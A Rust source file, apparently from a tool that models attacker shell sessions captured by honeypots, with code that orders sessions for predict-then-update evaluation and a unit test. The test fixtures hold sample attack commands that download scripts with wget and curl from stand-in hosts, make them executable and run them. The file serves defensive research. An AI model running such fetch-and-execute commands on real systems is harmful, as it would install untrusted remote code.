//! Prequential (predict-then-update) order for evaluating with a node memory: sessions are
//! judged in the order they started, each with the memory of the sessions that *ended* before
//! it started (start plus the time of its last input line; a session without times ends when
//! it starts, so only sessions that started strictly earlier count), as a live node sees them.

use super::Session;
use crate::models::markov::Markov;
use crate::models::memory::NodeMemory;

/// When `session` started, in seconds since the epoch (−∞ when its start is not RFC 3339:
/// such sessions come first, in corpus order).
pub(super) fn start(session: &Session) -> f64 {
    chrono::DateTime::parse_from_rfc3339(&session.start).map_or(f64::NEG_INFINITY, |t| {
        t.timestamp() as f64 + f64::from(t.timestamp_subsec_millis()) / 1000.0
    })
}

/// When `session` ended: its start plus the time of its last timed input line.
pub(super) fn end(session: &Session) -> f64 {
    let last = session
        .commands
        .iter()
        .filter_map(|line| line.t)
        .filter(|t| t.is_finite() && *t >= 0.0)
        .fold(0.0, f64::max);
    start(session) + last
}

/// The indices of `sessions` in start order (ties in corpus order).
pub(super) fn order(sessions: &[Session]) -> Vec<usize> {
    let starts: Vec<f64> = sessions.iter().map(start).collect();
    let mut order: Vec<usize> = (0..sessions.len()).collect();
    order.sort_by(|&a, &b| starts[a].total_cmp(&starts[b]).then(a.cmp(&b)));
    order
}

/// Remembers, oldest end first, every judged session in `ended` (end, index) that ended
/// before `next` started, and drops them from `ended`.
pub(super) fn remember_ended(
    memory: &NodeMemory,
    model: &Markov,
    sessions: &[Session],
    ended: &mut Vec<(f64, usize)>,
    next: &Session,
) {
    let now = start(next);
    ended.sort_by(|a, b| a.0.total_cmp(&b.0).then(a.1.cmp(&b.1)));
    let done = ended.partition_point(|e| e.0 < now);
    for (_, i) in ended.drain(..done) {
        let session = &sessions[i];
        memory.remember(model, &session.login(), &session.normalized());
    }
}

#[cfg(test)]
mod tests {
    use super::super::{evaluate, evaluate_with, read_corpus};
    use crate::models::markov::Markov;
    use crate::models::memory::NodeMemory;
    use crate::models::normalize::{Normalized, normalize_line};

    fn session(lines: &[&str]) -> Vec<Normalized> {
        lines.iter().flat_map(|l| normalize_line(l)).collect()
    }

    /// The new script, started at `start`, its lines a second apart.
    fn line(start: &str) -> String {
        format!(
            r#"{{"source":"s","start":"{start}","commands":[{{"t":0,"input":"cd /tmp"}},{{"t":1,"input":"wget http://c/y.sh"}},{{"t":2,"input":"chmod 777 y.sh"}}]}}"#
        )
    }

    #[test]
    fn only_sessions_that_ended_before_one_started_are_remembered_for_it() {
        // The model is unsure what follows the download; the campaign now runs chmod.
        let a = session(&["cd /tmp", "wget http://a/x.sh", "sh x.sh"]);
        let b = session(&["cd /tmp", "wget http://a/x.sh", "curl -O http://a/x.sh"]);
        let model = Markov::trained(3, [a.as_slice(), b.as_slice()]);
        // In corpus order: the last to start, then two that overlap (the second starts
        // before the first ended), so only the last can have learned from the others.
        let corpus = [
            line("2026-01-01T10:10:00Z"),
            line("2026-01-01T10:00:00Z"),
            line("2026-01-01T10:00:01Z"),
        ]
        .join("\n");
        let sessions = read_corpus(&corpus).expect("corpus");
        let alone = evaluate(&model, &sessions).prediction.pooled;
        assert_eq!(alone.n, 9);
        assert!((alone.top1 - 6.0 / 9.0).abs() < 1e-9, "{alone:?}");
        let memory = NodeMemory::default();
        let node = evaluate_with(&model, &sessions, Some(&memory))
            .prediction
            .pooled;
        assert!((node.top1 - 7.0 / 9.0).abs() < 1e-9, "{node:?}");
        // The last session was judged, not remembered: it never ended before another began.
        assert_eq!(memory.sessions(), 2);
    }
}
